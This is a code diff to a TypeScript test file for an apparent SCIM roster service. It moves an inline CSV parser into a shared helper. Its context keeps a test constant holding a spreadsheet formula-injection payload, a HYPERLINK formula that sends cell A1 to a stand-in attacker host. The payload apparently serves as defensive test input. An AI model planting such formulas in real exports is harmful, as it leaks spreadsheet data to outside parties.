@@ -8,6 +8,7 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { startRoster, type Roster } from '../helpers/roster.js';
 import { scimClient, type ScimConnection } from '../scim/helpers.js';
+import { parseCsv } from '../helpers/csv.js';
 
 let roster: Roster;
 const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
@@ -18,36 +19,6 @@ beforeAll(async () => {
 afterAll(async () => {
   await roster.close();
 });
-
-/** A CSV document parsed as RFC 4180 (quoted cells, doubled quotes, CRLF records). */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let cell = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i += 1) {
-    const c = text.charAt(i);
-    if (quoted) {
-      if (c === '"' && text[i + 1] === '"') {
-        cell += '"';
-        i += 1;
-      } else if (c === '"') quoted = false;
-      else cell += c;
-    } else if (c === '"') quoted = true;
-    else if (c === ',') {
-      row.push(cell);
-      cell = '';
-    } else if (c === '\r' && text[i + 1] === '\n') {
-      row.push(cell);
-      rows.push(row);
-      row = [];
-      cell = '';
-      i += 1;
-    } else cell += c;
-  }
-  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
-  return rows;
-}
 
 describe('target names', () => {
   it('records the target’s name when the event is written, and keeps it after a rename', async () => {
